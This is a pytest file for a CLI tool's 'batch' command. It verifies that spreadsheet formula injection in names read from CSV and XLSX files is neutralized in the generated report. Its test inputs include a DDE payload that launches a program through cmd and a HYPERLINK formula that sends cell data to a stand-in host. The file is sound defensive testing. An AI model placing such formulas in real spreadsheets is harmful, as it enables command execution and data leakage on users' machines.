"""`tutorbargain batch` against hostile spreadsheets and bad luck (issue 11, the batch part).

Each test runs the real command and reads back what a staffer would see: report.csv opened as a
spreadsheet reads it, the folders left behind, the message printed.
"""

from __future__ import annotations

import csv
import sys
from collections.abc import Mapping, Sequence
from pathlib import Path

import pytest

from conftest import docx_text, run_cli
from tutorbargain import batch
from tutorbargain.fields import FIELDS

COLUMNS = [f.name for f in FIELDS]
COMMAND = [sys.executable, "-m", "tutorbargain"]
ROW = {
    "local.name": "Cedar Hollow Education Association",
    "district.name": "Cedar Hollow School District",
    "district.state": "OH",
    "school_year": "2026-27",
    "bargaining.status": "cba",
    "program.provider": "in_house",
    "program.delivery": "in_person",
    "pay.tutoring_hourly_rate": "$45.00",
    "funding.ends": "2027-06-30",
}
FORMULAS = [
    '=HYPERLINK("http://x/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
]


def write_csv(path: Path, rows: Sequence[Mapping[str, object]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(COLUMNS)
        for row in rows:
            writer.writerow([row.get(name, "") for name in COLUMNS])
    return path


def read_report(out: Path) -> list[dict[str, str]]:
    with (out / "report.csv").open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def locals_named(names: Sequence[str]) -> list[dict[str, str]]:
    return [{**ROW, "local.name": name} for name in names]


def numbered(count: int) -> list[dict[str, str]]:
    return locals_named([f"Cedar Hollow Unit {n}" for n in range(1, count + 1)])


# ---------------------------------------------------------------- formula injection


def _assert_inert(report: list[dict[str, str]], names: Sequence[str]) -> None:
    assert [r["local"] for r in report] == ["'" + name for name in names]
    for row in report:
        for value in row.values():
            assert not value.startswith(batch.FORMULA_STARTS), value


def test_formulas_in_csv_names_are_inert_in_the_report(tmp_path: Path) -> None:
    source = write_csv(tmp_path / "locals.csv", locals_named(FORMULAS))
    out = tmp_path / "out"
    result = run_cli(["batch", str(source), "-o", str(out)])
    assert "Traceback" not in result.err
    _assert_inert(read_report(out), FORMULAS)
    # The documents keep the name as typed: only the spreadsheet cell is neutralized.
    rendered = [r for r in read_report(out) if r["status"] == "rendered"]
    assert rendered, result.out + result.err
    for row in rendered:
        first = out / row["outputs"].split("; ")[0]
        assert row["local"][1:] in docx_text(first)


def test_formulas_in_xlsx_text_cells_are_inert_in_the_report(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(COLUMNS)
    for number, row in enumerate(locals_named(FORMULAS), start=2):
        sheet.append([row.get(c) or None for c in COLUMNS])
        cell = sheet.cell(row=number, column=COLUMNS.index("local.name") + 1)
        cell.data_type = "s"  # a text cell that starts with "=", as Excel stores '=...
    source = tmp_path / "locals.xlsx"
    workbook.save(source)
    out = tmp_path / "out"
    result = run_cli(["batch", str(source), "-o", str(out)])
    assert "Traceback" not in result.err
    _assert_inert(read_report(out), FORMULAS)


def test_a_tab_or_carriage_return_start_is_neutralized_too() -> None:
    for text in ("\tcmd", "\rcmd", "=1", "+1", "-1", "@x"):
        assert batch.spreadsheet_cell(text) == "'" + text
    assert batch.spreadsheet_cell("Cedar Hollow") == "Cedar Hollow"
    assert batch.spreadsheet_cell(7) == 7


def test_the_template_spreadsheets_hold_no_formula(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    csv_path, xlsx_path = tmp_path / "t.csv", tmp_path / "t.xlsx"
    assert run_cli(["batch", "--template", str(csv_path)]).code == 0
    assert run_cli(["batch", "--template", str(xlsx_path)]).code == 0
    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
        for record in csv.reader(handle):
            assert not any(cell.startswith(batch.FORMULA_STARTS) for cell in record)
    workbook = openpyxl.load_workbook(xlsx_path)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
